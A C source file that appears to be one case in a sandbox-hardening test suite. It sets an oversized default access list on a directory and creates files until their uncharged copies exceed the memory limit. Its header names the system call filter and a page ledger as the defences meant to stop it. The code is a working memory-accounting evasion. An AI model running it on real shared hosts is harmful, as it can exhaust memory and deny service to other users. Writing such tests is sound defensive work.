/* Gives a directory a default access list of 64 KiB, once: each file that is made in it gets a copy, which is charged to nobody.
 * goal: half as much memory again as the limit
 * stopped by: the system call filter, and the ledger of pages that no control group pays for
 * first: seccomp
 * second: ledger
 * ends: exit, memory-limit
 */
#include "attack.h"
#include <sys/xattr.h>
struct entry { uint16_t tag, mode; uint32_t id; };
int main(void) {
    enum { ENTRIES = 8000 };
    static struct { uint32_t version; struct entry entry[ENTRIES]; } list = { .version = 2 };
    list.entry[0] = (struct entry){ 1, 7, -1 };
    for (int i = 1; i < ENTRIES - 3; i++) list.entry[i] = (struct entry){ 2, 7, getuid() };
    list.entry[ENTRIES - 3] = (struct entry){ 4, 7, -1 };
    list.entry[ENTRIES - 2] = (struct entry){ 16, 7, -1 };
    list.entry[ENTRIES - 1] = (struct entry){ 32, 7, -1 };
    size_t wanted = figure("ATTACK_MEMORY") / 2 * 3, got = 0;
    char dir[64], path[96];
    snprintf(dir, sizeof dir, "/tmp/lists-%d", getpid());
    if (mkdir(dir, 0700) == 0 && setxattr(dir, "system.posix_acl_default", &list, sizeof list, 0) == 0) {
        for (int i = 0; got < wanted; i++, got += sizeof list) {
            snprintf(path, sizeof path, "%s/%d", dir, i);
            if (mknod(path, S_IFREG | 0600, 0)) break;
        }
    }
    if (got >= wanted) reached("%zu bytes", got);
    return tried();
}
